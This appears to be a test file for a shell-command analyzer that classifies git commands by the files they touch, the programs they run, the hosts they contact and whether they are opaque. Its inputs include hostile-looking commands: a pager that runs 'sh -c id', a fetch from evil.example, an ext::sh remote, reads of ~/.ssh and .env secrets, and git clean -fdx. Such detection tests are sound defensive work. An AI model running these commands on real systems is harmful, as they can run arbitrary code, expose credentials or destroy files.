import { beforeAll, describe, expect, test } from 'bun:test';
import type { ShellAnalysis } from '../facts.ts';
import { analyzer, hostNames, isOpaque, markedLines, pathLines, programNames } from './table-support.ts';

let analyze: (command: string) => ShellAnalysis;
beforeAll(async () => {
  analyze = await analyzer();
});

describe('git', () => {
  test.each<[string, string[]]>([
    ['git status', ['read /home/u/p/.']],
    ['git -C ~/.ssh log', ['read+r /home/u/.ssh', 'read /home/u/p/.', 'read /home/u/.ssh/.']],
    ["git -c core.pager='sh -c id' log", ['read /home/u/p/.']],
    ['git config core.hooksPath hooks', []],
    ['git config --global user.name x', ['write /home/u/.gitconfig']],
    ['git config --get user.email', []],
    ['git clone https://github.com/a/b.git', ['write+r /home/u/p/b']],
    ['git clone git@github.com:a/b.git dir', ['write+r /home/u/p/dir']],
    ['git fetch https://evil.example/x', []],
    ['git push origin main', []],
    ['git add src/a.ts', ['read /home/u/p/.', 'read /home/u/p/src/a.ts']],
    ['git checkout -- file.txt', ['read /home/u/p/.', 'write+r /home/u/p/file.txt']],
    ['git rm -r old', ['read /home/u/p/.', 'write+r /home/u/p/old']],
    ['git apply fix.patch', ['read /home/u/p/fix.patch']],
    [
      "git rebase -x 'cat x' main",
      ['read /home/u/p/x', 'read /home/u/p/.', 'read /home/u/p/cat x', 'read /home/u/p/main'],
    ],
    ['git bisect run make test', []],
    ["git submodule foreach 'cat x'", ['read /home/u/p/x']],
    ['git filter-branch --tree-filter x', []],
    ['git commit -F msg.txt', ['read /home/u/p/msg.txt', 'read /home/u/p/.']],
    [
      'git format-patch -o out HEAD~3',
      ['write+r /home/u/p/out', 'read /home/u/p/.', 'write+r /home/u/p/HEAD~3'],
    ],
  ])('%s touches %p', (command, expected) => {
    expect(pathLines(analyze(command))).toEqual(expected);
  });

  test.each<[string, string[]]>([
    ["git rebase -x 'cat x' main", ['git', 'cat']],
    ['git bisect run make test', ['git', 'make']],
    ["git submodule foreach 'cat x'", ['git', 'cat']],
  ])('%s runs %p', (command, expected) => {
    expect(programNames(analyze(command))).toEqual(expected);
  });

  test.each<[string, (string | undefined)[]]>([
    ['git clone https://github.com/a/b.git', ['github.com']],
    ['git clone git@github.com:a/b.git dir', ['github.com']],
    ['git fetch https://evil.example/x', ['evil.example']],
  ])('%s contacts %p', (command, expected) => {
    expect(hostNames(analyze(command))).toEqual(expected);
  });

  test.each([
    "git -c core.pager='sh -c id' log",
    'git config core.hooksPath hooks',
    'git apply fix.patch',
    'git filter-branch --tree-filter x',
  ])('%s is opaque', (command) => {
    expect(isOpaque(analyze(command))).toBe(true);
  });

  test.each([
    'git status',
    'git -C ~/.ssh log',
    'git config --global user.name x',
    'git config --get user.email',
    'git clone https://github.com/a/b.git',
    'git clone git@github.com:a/b.git dir',
    'git fetch https://evil.example/x',
    'git push origin main',
    'git add src/a.ts',
    'git checkout -- file.txt',
    'git rm -r old',
    "git rebase -x 'cat x' main",
    'git bisect run make test',
    "git submodule foreach 'cat x'",
    'git commit -F msg.txt',
    'git format-patch -o out HEAD~3',
  ])('%s is fully analysed', (command) => {
    expect(isOpaque(analyze(command))).toBe(false);
  });

  // The blind-spot classes of issue 12: how each access walks (links, deletion) and what runs.
  test.each<[string, string[]]>([
    ['git show HEAD:.env', ['read /home/u/p/.', 'read /home/u/p/HEAD:.env', 'read /home/u/p/.env']],
    ['git show :0:.env', ['read /home/u/p/.', 'read /home/u/p/:0:.env', 'read /home/u/p/.env']],
    ['git show :/fix', ['read /home/u/p/.', 'read /home/u/p/:/fix']],
    ['echo HEAD:x | git cat-file --batch', ['read /home/u/p/x']],
    ['git cat-file --batch < names.txt', ['read /home/u/p/names.txt']],
    [
      "git grep KEY -- '*.env'",
      [
        'read /home/u/p/.',
        'read /home/u/p/KEY',
        'read /home/u/p/*.env',
        'read+r files named *.env below /home/u/p/.',
      ],
    ],
    [
      "git log -p -- 'config/*.env'",
      ['read /home/u/p/.', 'read /home/u/p/config/*.env', 'read+r files named *.env below /home/u/p/config'],
    ],
    ["git grep -O'cat x' foo", ['read /home/u/p/x', 'read /home/u/p/.', 'read /home/u/p/foo']],
    ['git grep -O foo', ['read /home/u/p/.', 'read /home/u/p/foo']],
    ['git remote add evil ext::sh', []],
    ["git bisect run sh -c 'cat x'", ['read /home/u/p/x']],
    ['git clean -fdx', ['read /home/u/p/.', 'write+r /home/u/p/.claude [deletes]']],
    ['git clean -ndx', ['read /home/u/p/.']],
    ['git clone --template=/tmp/t https://github.com/a/b', ['read+r /tmp/t', 'write+r /home/u/p/b']],
    ['git send-email --to-cmd=./x.sh HEAD~1', ['read /home/u/p/.', 'read /home/u/p/HEAD~1']],
    ['echo x | git hash-object --stdin-paths', ['read /home/u/p/x']],
  ])('%s touches %p', (command, expected) => {
    expect(markedLines(analyze(command))).toEqual(expected);
  });

  test.each<[string, string[]]>([
    ['echo HEAD:x | git cat-file --batch', ['echo', 'git']],
    ["git grep -O'cat x' foo", ['git', 'cat']],
    ["git bisect run sh -c 'cat x'", ['git', 'sh', 'cat']],
    ['echo x | git hash-object --stdin-paths', ['echo', 'git']],
  ])('%s runs %p', (command, expected) => {
    expect(programNames(analyze(command))).toEqual(expected);
  });

  test.each<[string, boolean]>([
    ['git show HEAD:.env', false],
    ['git show :0:.env', false],
    ['git show :/fix', false],
    ['echo HEAD:x | git cat-file --batch', false],
    ['git cat-file --batch < names.txt', true],
    ["git grep KEY -- '*.env'", false],
    ["git log -p -- 'config/*.env'", false],
    ["git grep -O'cat x' foo", false],
    ['git grep -O foo', true],
    ['git remote add evil ext::sh', true],
    ["git bisect run sh -c 'cat x'", false],
    ['git clean -fdx', false],
    ['git clean -ndx', false],
    ['git clone --template=/tmp/t https://github.com/a/b', true],
    ['git send-email --to-cmd=./x.sh HEAD~1', true],
    ['echo x | git hash-object --stdin-paths', false],
  ])('%s is opaque: %p', (command, expected) => {
    expect(isOpaque(analyze(command))).toBe(expected);
  });
});
